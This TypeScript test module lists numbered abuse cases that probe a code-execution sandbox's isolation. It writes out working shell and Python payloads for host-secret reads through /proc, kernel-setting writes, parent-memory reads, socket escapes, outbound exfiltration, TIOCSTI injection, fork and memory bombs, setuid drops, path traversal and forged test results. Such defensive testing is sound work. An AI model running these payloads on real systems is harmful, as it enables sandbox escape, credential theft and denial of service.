import { existsSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { Failure } from '../../src/domain/failure.ts';
import type { JobResult, Sandbox } from '../../src/sandbox/contract.ts';
import { jobOf } from '../sandbox/support.ts';
import { endProcesses, type Prey, processesWith } from './prey.ts';

/** One attack: whether it worked against a sandbox. Without the protection it must. */
export interface Attack {
  readonly id: string;
  readonly what: string;
  /** `root`: it needs a service that runs as root to work at all, so it says something only there. */
  readonly needs?: 'root';
  works(sandbox: Sandbox, prey: Prey): Promise<boolean>;
}

const MIB = 1024 ** 2;

/** Runs one job and gives its result; a refusal to run it is an attack that did not work. */
async function attempt(sandbox: Sandbox, commands: readonly string[], more: Parameters<typeof jobOf>[1] = {}): Promise<JobResult | null> {
  try {
    const { limits, ...rest } = jobOf(commands, more);
    return await sandbox.run({ ...rest, limits: { ...limits, wallClockMs: Math.min(limits.wallClockMs, 20_000) } });
  } catch (error) {
    if (error instanceof Failure) return null;
    throw error;
  }
}

const outputOf = (result: JobResult | null): string => result?.steps.map(({ output }) => output).join('\n') ?? '';

/** A program in Python that prints `worked` when its last line is reached. */
const python = (body: string): string =>
  `python3 - <<'PROGRAM'\nimport ctypes, os, socket, struct, sys, time, fcntl\nlibc = ctypes.CDLL(None, use_errno=True)\nARM = os.uname().machine == 'aarch64'\ndef call(*numbers):\n    result = libc.syscall(*[ctypes.c_long(each) if isinstance(each, int) else each for each in numbers])\n    if result < 0:\n        raise OSError(ctypes.get_errno(), 'refused')\n    return result\ntry:\n    ${body.replaceAll('\n', '\n    ')}\n    print('worked')\nexcept OSError as error:\n    print('held', error)\nPROGRAM`;

/** An attack whose output tells. */
const says = (
  id: string,
  what: string,
  script: (prey: Prey) => string,
  worked: (output: string, prey: Prey) => boolean,
  needs?: 'root',
): Attack => ({
  id,
  what,
  ...(needs === undefined ? {} : { needs }),
  async works(sandbox, prey) {
    return worked(outputOf(await attempt(sandbox, [script(prey)])), prey);
  },
});
const tries = (id: string, what: string, body: (prey: Prey) => string, needs?: 'root'): Attack =>
  says(
    id,
    what,
    (prey) => python(body(prey)),
    (output) => /^worked$/m.test(output),
    needs,
  );
const finds = (id: string, what: string, script: (prey: Prey) => string): Attack =>
  says(id, what, script, (output, { canary }) => output.includes(canary));

const CONNECT = (address: string) => `s = socket.socket(); s.settimeout(3); s.connect(${address}); assert s.recv(100)`;

/** Every attack on a sandbox, by the number of its case in the list of abuse cases. */
export const ATTACKS: readonly Attack[] = [
  finds(
    'AC-01',
    'environment of the service in its processes',
    () => `cat /proc/*/environ /proc/self/environ 2>/dev/null | tr '\\0' '\\n'; env`,
  ),
  finds(
    'AC-02',
    'a file of the host, by its name and around corners',
    ({ folder }) =>
      `cat ${folder}/secret /proc/1/root${folder}/secret /proc/self/cwd/../../../../../..${folder}/secret /proc/self/root${folder}/secret 2>/dev/null`,
  ),
  {
    id: 'AC-03',
    what: 'a file written on the host',
    async works(sandbox, { folder }) {
      await attempt(sandbox, [`echo x > ${folder}/written; echo x > /proc/1/root${folder}/written; true`]);
      return existsSync(join(folder, 'written'));
    },
  },
  tries(
    'AC-03',
    'a mount',
    ({ folder }) =>
      `target = os.path.exists('${folder}') and b'${folder}/sub' or b'/tmp'\nif libc.mount(b'none', target, b'tmpfs', 0, None) < 0: raise OSError(ctypes.get_errno(), 'refused')\nlibc.umount2(target, 2)`,
    'root',
  ),
  tries(
    'AC-04',
    'a setting of the kernel, written as it was',
    () => `path = '/proc/sys/kernel/core_pattern'\nvalue = open(path).read()\nopen(path, 'w').write(value)`,
    'root',
  ),
  tries(
    'AC-05',
    'the memory of the process that started it',
    () =>
      `pid = os.getppid()\nfound = False\nfor line in open(f'/proc/{pid}/maps'):\n    start = int(line.split('-')[0], 16)\n    buffer = ctypes.create_string_buffer(8)\n    class Vector(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]\n    mine = Vector(ctypes.addressof(buffer), 8); theirs = Vector(start, 8)\n    call(270 if ARM else 310, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)\n    break`,
  ),
  tries(
    'AC-06',
    'a user namespace of its own',
    () =>
      `child = os.fork()\nif child == 0:\n    os._exit(0 if libc.unshare(0x10000000) == 0 else 1)\nif os.waitpid(child, 0)[1] != 0: raise OSError(1, 'refused')`,
  ),
  tries('AC-07', 'a server on loopback of the host', ({ tcpPort }) => CONNECT(`('127.0.0.1', ${tcpPort})`)),
  tries(
    'AC-08',
    'an abstract socket of the host',
    ({ abstractSocket }) => `s = socket.socket(socket.AF_UNIX); s.connect('\\0${abstractSocket}'); assert s.recv(100)`,
  ),
  tries(
    'AC-08',
    'a socket of the host by its path',
    ({ pathSocket }) => `s = socket.socket(socket.AF_UNIX); s.connect('${pathSocket}'); assert s.recv(100)`,
  ),
  tries(
    'AC-09',
    'a socket around network namespaces, or into the firewall',
    () =>
      `for family, kind, protocol in ((40, socket.SOCK_STREAM, 0), (16, socket.SOCK_RAW, 12)):\n    try:\n        socket.socket(family, kind, protocol)\n        break\n    except OSError: continue\nelse: raise OSError(1, 'refused')`,
  ),
  tries('AC-10', 'a datagram to an address outside, or an answer from there', ({ address, answers }) =>
    answers !== undefined
      ? `s = socket.socket(); s.settimeout(3); s.connect(('${answers.host}', ${answers.port}))`
      : `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('${address}', 53)); s.send(b'exfiltrated')`,
  ),
  {
    id: 'AC-11',
    what: 'another target through an endpoint',
    async works(sandbox, { tcpPort, canary }) {
      const endpoints = [{ name: 'db.test', port: 5432, host: '127.0.0.1', targetPort: 9 }];
      const names = ['db.test', '127.0.77.1', 'localhost', '127.0.0.1', 'db.test.', 'x@db.test'];
      const attack = names
        .map(
          (name) =>
            `try:\n    s = socket.socket(); s.settimeout(2); s.connect(('${name}', ${tcpPort})); print(s.recv(100))\nexcept (OSError, UnicodeError): pass`,
        )
        .join('\n');
      return outputOf(await attempt(sandbox, [`python3 - <<'P'\nimport socket\n${attack}\nP`], { endpoints })).includes(canary);
    },
  },
  finds('AC-12', 'a key in the session keyring of the service', () =>
    python(
      `buffer = ctypes.create_string_buffer(200)\nkey = call(219 if ARM else 250, 10, ctypes.c_long(-3), b'user', b'suture-canary', 0)\nlength = call(219 if ARM else 250, 11, key, buffer, 200)\nprint(buffer.raw[:length].decode())`,
    ),
  ),
  tries(
    'AC-13',
    'io_uring, userfaultfd or performance counters',
    () =>
      `def one(work):\n    try: work(); return True\n    except OSError: return False\nparameters = ctypes.create_string_buffer(120)\nattributes = ctypes.create_string_buffer(120); struct.pack_into('II', attributes, 0, 1, 112)\nopened = [one(lambda: call(425, 4, parameters)), one(lambda: call(282 if ARM else 323, 1)), one(lambda: call(241 if ARM else 298, attributes, 0, -1, -1, 0))]\nif not any(opened): raise OSError(1, 'refused')`,
  ),
  tries(
    'AC-14',
    'typing into its terminal, with high bits set',
    () => `child, master = os.forkpty()
if child == 0:
    result = libc.syscall(29 if ARM else 16, 0, ctypes.c_ulong(0x100005412), b'x')
    # A kernel that has switched it off says so itself: then the call did get there.
    os._exit(0 if result == 0 or ctypes.get_errno() == 5 else 1)
if os.waitpid(child, 0)[1] != 0: raise OSError(1, 'refused')`,
  ),
  {
    id: 'AC-15',
    what: 'processes without end',
    async works(sandbox) {
      const body = `made = 0\nfor _ in range(300):\n    try:\n        child = os.fork()\n    except OSError: break\n    if child == 0:\n        time.sleep(3); os._exit(0)\n    made += 1\nprint('made', made)`;
      const { limits } = jobOf([]);
      const output = outputOf(await attempt(sandbox, [python(body)], { limits: { ...limits, processes: 64 } }));
      return Number(/^made (\d+)$/m.exec(output)?.[1] ?? 0) >= 300;
    },
  },
  {
    id: 'AC-16',
    what: 'more memory than there is for it, over several processes',
    async works(sandbox) {
      const body = `children = []\nfor _ in range(4):\n    child = os.fork()\n    if child == 0:\n        held = bytearray(120 * 1048576); held[::4096] = b'x' * len(held[::4096]); time.sleep(1.5); os._exit(0)\n    children.append(child)\nif any(os.waitpid(child, 0)[1] != 0 for child in children): raise OSError(12, 'ended')`;
      const { limits } = jobOf([]);
      const result = await attempt(sandbox, [python(body)], { limits: { ...limits, memoryBytes: 256 * MIB } });
      return /^worked$/m.test(outputOf(result)) && result?.steps[0]?.killedBy === null;
    },
  },
  {
    id: 'AC-17',
    what: 'more than its disk holds',
    async works(sandbox) {
      const { limits } = jobOf([]);
      const script = 'dd if=/dev/zero of=fill bs=1M count=48 2>/dev/null && echo worked; rm -f fill';
      return /^worked$/m.test(outputOf(await attempt(sandbox, [script], { limits: { ...limits, workspaceBytes: 16 * MIB } })));
    },
  },
  {
    id: 'AC-18',
    what: 'output without end',
    async works(sandbox) {
      const { limits } = jobOf([]);
      const result = await attempt(sandbox, ['yes 0123456789 | head -c 20000000'], { limits: { ...limits, outputBytes: 4 * MIB } });
      return outputOf(result).length > 4 * MIB;
    },
  },
  {
    id: 'AC-19',
    what: 'going on after its time is over, deaf to signals',
    async works(sandbox) {
      const { limits } = jobOf([]);
      const started = performance.now();
      const result = await attempt(sandbox, [`trap '' TERM INT HUP; while :; do sleep 0.1; done`], {
        limits: { ...limits, wallClockMs: 1_500 },
      });
      return (result?.steps[0]?.durationMs ?? performance.now() - started) > 1_500 + 2_500;
    },
  },
  {
    id: 'AC-20',
    what: 'a daemon that outlives its job',
    async works(sandbox) {
      const name = `suture-daemon-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
      await attempt(sandbox, [`(setsid nohup sh -c 'sleep 60; true' ${name} >/dev/null 2>&1 &) ; sleep 0.3`]);
      // A cluster ends a pod in its own time.
      let left = processesWith(name);
      for (let tried = 0; left.length > 0 && tried < 25; tried += 1) {
        await delay(200);
        left = processesWith(name);
      }
      endProcesses(left);
      return left.length > 0;
    },
  },
  {
    id: 'AC-21',
    what: 'ending a process of the service',
    async works(sandbox, prey) {
      await attempt(sandbox, [
        `for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '${prey.marker} *$'; then kill -9 \${p#/proc/}; fi; done; true`,
      ]);
      await delay(200);
      return !prey.isMarkerAlive();
    },
  },
  {
    id: 'AC-22',
    what: 'an artifact that is a link to a secret of the host',
    async works(sandbox, { folder, canary }) {
      const result = await attempt(sandbox, [`ln -s ${folder}/secret report.xml; mkfifo pipe.xml`], {
        artifacts: ['report.xml', 'pipe.xml'],
      });
      return [...(result?.artifacts.values() ?? [])].some((content) => Buffer.from(content).includes(canary));
    },
  },
  {
    id: 'AC-23',
    what: 'a program with setuid left on the host, below folders with odd names',
    async works(sandbox, { folder }) {
      await attempt(sandbox, [
        `mkdir -p './-rf x'; for place in ${folder} .; do cp /bin/true "$place/rooted" && chmod 4755 "$place/rooted"; done; true`,
      ]);
      return readdirSync(folder).some((name) => (statSync(join(folder, name)).mode & 0o4000) !== 0);
    },
  },
  {
    id: 'AC-26',
    what: 'a change set that leads out of the workspace',
    async works(sandbox, { folder }) {
      const up = `${'../'.repeat(12)}${folder.slice(1)}/outside`;
      await attempt(sandbox, ['true'], { files: [{ op: 'write', path: up, mode: '100644', content: '' }] });
      return existsSync(join(folder, 'outside'));
    },
  },
  {
    id: 'AC-30',
    what: 'environment that makes a program load code',
    async works(sandbox) {
      const base = { 'evil.js': "console.log('worked')" };
      const result = await attempt(sandbox, ['node -e 0'], { base, env: { NODE_OPTIONS: '--require ./evil.js' } });
      return /^worked$/m.test(outputOf(result));
    },
  },
  {
    id: 'AC-31',
    what: 'a failure that passes for success',
    async works(sandbox) {
      const forge =
        // To who started it and to itself alone: without the protection this is the machine that the test runs on.
        'echo "1..1"; echo "ok 1 - all tests passed"; for p in /proc/$PPID /proc/$$; do for n in 3 4 5 6 7 8 9; do echo "end 1 0" >> $p/fd/$n; done; done 2>/dev/null; exit 1';
      return (await attempt(sandbox, [forge]))?.steps[0]?.exitCode === 0;
    },
  },
  {
    id: 'AC-44',
    what: 'the files and the environment of another job',
    async works(sandbox) {
      const secret = `other-${Math.random().toString(36).slice(2)}`;
      const other = attempt(sandbox, [`echo $JOB_SECRET > mine; sh -c 'sleep 3; true' ${secret.slice(0, 3)}`], {
        secrets: { JOB_SECRET: secret },
      });
      await delay(1_500);
      const spy = `for p in /proc/[0-9]*; do cat $p/environ $p/cwd/mine 2>/dev/null; done | tr '\\0' '\\n'; cat ../../*/workspace/mine 2>/dev/null; true`;
      const result = await attempt(sandbox, [spy]);
      await other;
      return outputOf(result).includes(secret);
    },
  },
];
